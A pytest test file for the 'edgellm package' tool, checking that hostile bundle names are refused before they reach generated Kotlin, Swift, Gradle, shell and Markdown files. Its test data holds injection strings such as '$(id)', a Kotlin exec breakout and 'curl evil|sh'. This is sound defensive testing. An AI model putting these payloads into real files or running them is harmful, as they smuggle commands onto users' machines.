"""Names from a bundle (file names, model.name, device) land in the Kotlin, Swift, Gradle, shell,
Markdown and JSON that `edgellm package` writes: only safe names get there, and a bundle with any
other is refused (exit 2, one line naming the field) before any output folder exists."""

import json
import string
from pathlib import Path

import pytest
from conftest import write_bundle
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from edgellm.errors import BadInput
from edgellm.packaging import PackageRequest, package
from edgellm.packaging.targets import PackFile, _ident, safe_name

HOSTILE = ['a"b', "a'b", "a\\b", "$HOME", "${x}", "a${x}b", "x`id`", "$(id)", "a\nb", "a\rb", "tab\tx", "a b",
           "a;b", "a|b", "a&b", "a<b>", "a#b", "a%2e", "a?b", "a*b", "q\u0435n", "\u212aelvin", "a\u202eb", "a\u2028b",
           "-rf", "--help", "..", ".", ".hidden", "", "a" * 129, "x\x00", "a\x1bb", "\ufeffa", "é"]
ORDINARY = ["model.gguf", "Qwen2.5-0.5B-Instruct-Q4_K_M.gguf", "tokenizer_config.json", "a", "m_1-2.x"]
TARGETS = [("android", "auto"), ("android", "install-time"), ("android", "download"), ("ios", "bundled"),
           ("ios", "download"), ("linux", "auto")]


def _bundle(folder: Path, artifact="m.gguf", other="tokenizer.json", model="Qwen/tiny-chat", device="rpi5-8gb"):
    extra = {"model": {"name": model}} if model is not None else {}
    return write_bundle(folder, {artifact: b"GGUF" + b"\0" * 60, other: b"{}"}, artifact,
                        **extra, **({"device": device} if device is not None else {}))


def _text_files(pkg: Path) -> dict[str, str]:
    return {str(p.relative_to(pkg)): p.read_text() for p in sorted(pkg.rglob("*"))
            if p.is_file() and p.suffix in (".md", ".json", ".kts", ".sh")}


@pytest.mark.parametrize("value", ORDINARY)
def test_ordinary_names_pass_unchanged(value):
    assert safe_name(value, "f") == value


@pytest.mark.parametrize("value", HOSTILE + [None, 5, ["a"]])
def test_hostile_names_are_refused_on_one_line_naming_the_field(value):
    with pytest.raises(BadInput) as e:
        safe_name(value, "manifest.json: files entry")
    msg = e.value.message
    assert msg.startswith("manifest.json: files entry ") and msg.isascii() and msg.isprintable() and len(msg) < 400


@given(st.text(max_size=200))
@settings(max_examples=300, suppress_health_check=[HealthCheck.function_scoped_fixture])
def test_anything_safe_name_lets_through_is_made_of_the_strict_set(value):
    allowed = set(string.ascii_letters + string.digits + "._-")
    try:
        out = safe_name(value, "f")
    except BadInput as e:
        assert "\n" not in e.message and e.message.isascii()
        return
    assert out == value and set(out) <= allowed and out[0].isalnum() and len(out) <= 128


def test_every_packaged_file_name_and_ident_passes_the_check():
    with pytest.raises(BadInput, match="file name"):
        PackFile('x".gguf', Path("x"), 1, "0" * 64)
    for hostile in HOSTILE:
        assert set(_ident(hostile[:100])) <= set(string.ascii_lowercase + string.digits + "_")


@pytest.mark.parametrize("field, value", [("files entry", v) for v in HOSTILE if v not in ("", ".", "..", "a\\b", "x\x00")]
                         + [("model.name", v) for v in HOSTILE if v] + [("model.name", "org/" + v) for v in HOSTILE if v not in ("", ".")]
                         + [("device", v) for v in HOSTILE])
@pytest.mark.parametrize("target, delivery", [("android", "install-time"), ("ios", "bundled"), ("linux", "auto")])
def test_hostile_bundle_names_refuse_the_package(tmp_path, field, value, target, delivery):
    if field == "files entry":
        b = _bundle(tmp_path / "b", artifact=value + ".gguf" if len(value) < 129 else value, other="tokenizer.json")
    else:
        b = _bundle(tmp_path / "b", **{field.split(".")[0]: value})
    with pytest.raises(BadInput, match=rf"manifest.json: {field} ") as e:
        package(PackageRequest(b, target, tmp_path / "p", delivery=delivery))
    assert "\n" not in e.value.message
    assert sorted(p.name for p in tmp_path.iterdir()) == ["b"]          # no package, no temporary folder


def test_hostile_tokenizer_file_name_is_refused_too(tmp_path):
    b = _bundle(tmp_path / "b", other="tok$(id)en.json")
    with pytest.raises(BadInput, match=r"files entry 'tok\$\(id\)en.json'"):
        package(PackageRequest(b, "android", tmp_path / "p"))


@pytest.mark.parametrize("peak", ["1\n```sh\nid\n```", -1, 1.5, True, [1]])
def test_a_peak_memory_the_ios_note_writes_must_be_a_byte_count(tmp_path, peak):
    b = write_bundle(tmp_path / "b", {"m.gguf": b"GGUF"}, "m.gguf", device="iphone-15-pro-8gb",
                     prediction={"peak_memory_bytes": peak})
    with pytest.raises(BadInput, match="prediction.peak_memory_bytes"):
        package(PackageRequest(b, "ios", tmp_path / "p"))
    assert not (tmp_path / "p").exists()


def test_a_bundle_folder_name_used_as_the_model_name_is_checked(tmp_path):
    b = _bundle(tmp_path / "my `model`", model=None)
    with pytest.raises(BadInput, match="bundle folder's name"):
        package(PackageRequest(b, "linux", tmp_path / "p"))
    package(PackageRequest(_bundle(tmp_path / "plain", model=None), "linux", tmp_path / "q"))
    assert (tmp_path / "q/plain.tar.gz").is_file()


@pytest.mark.parametrize("payload", ['x");Runtime.getRuntime().exec("id");(".gguf', "a${System.exit(1)}.gguf", "a\n```sh\ncurl evil|sh\n```.gguf"])
def test_cli_exits_2_with_one_line_and_writes_nothing(run_cli, tmp_path, payload):
    b = _bundle(tmp_path / "b", artifact=payload)
    for target in ("android", "ios", "linux"):
        r = run_cli("package", str(b), "--target", target, "-o", str(tmp_path / "p"))
        assert r.returncode == 2, r.stderr
        lines = r.stderr.strip().splitlines()
        assert len(lines) == 1 and "files entry" in lines[0] and ascii(payload)[1:20] in lines[0]
        assert sorted(p.name for p in tmp_path.iterdir()) == ["b"]


@pytest.mark.parametrize("target, delivery", TARGETS)
def test_ordinary_names_package_as_before(tmp_path, target, delivery):
    b = _bundle(tmp_path / "b", artifact="Qwen2.5-0.5B-Instruct-Q4_K_M.gguf", model="Qwen/Qwen2.5-0.5B-Instruct",
                device="iphone-15-pro-8gb")
    r = package(PackageRequest(b, target, tmp_path / "p", delivery=delivery))
    texts = _text_files(tmp_path / "p")
    note = texts["INTEGRATION.md"]
    assert note.startswith("# Qwen2.5-0.5B-Instruct for ") and json.loads(texts["index.json"])["model"] == "Qwen2.5-0.5B-Instruct"
    if target == "android" and delivery != "download":
        assert 'LLamaAndroid.instance().load("<filesDir>/edgellm/qwen2_5_0_5b_instruct/Qwen2.5-0.5B-Instruct-Q4_K_M.gguf")' in note
    if target == "ios" and r.delivery == "bundled":
        assert 'create_context(path: "<resources>/qwen2_5_0_5b_instruct/Qwen2.5-0.5B-Instruct-Q4_K_M.gguf")' in note
    if delivery == "install-time":
        assert texts["qwen2_5_0_5b_instruct_model/build.gradle.kts"] == (
            'plugins { id("com.android.asset-pack") }\n\nassetPack {\n    packName.set("qwen2_5_0_5b_instruct_model")\n'
            '    dynamicDelivery {\n        deliveryType.set("install-time")\n    }\n}\n')


@given(name=st.text(min_size=1, max_size=40), device=st.text(max_size=20))
@settings(max_examples=40, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
def test_any_model_name_or_device_is_refused_or_lands_only_as_a_safe_name(tmp_path_factory, name, device):
    tmp = tmp_path_factory.mktemp("h")
    b = _bundle(tmp / "b", model=name, device=device or None)
    allowed = set(string.ascii_letters + string.digits + "._-")
    for target in ("android", "ios", "linux"):
        try:
            package(PackageRequest(b, target, tmp / target))
        except BadInput as e:
            assert "\n" not in e.message and not (tmp / target).exists()
            continue
        shown = Path(name).name
        assert set(shown) <= allowed and (not device or set(device) <= allowed)
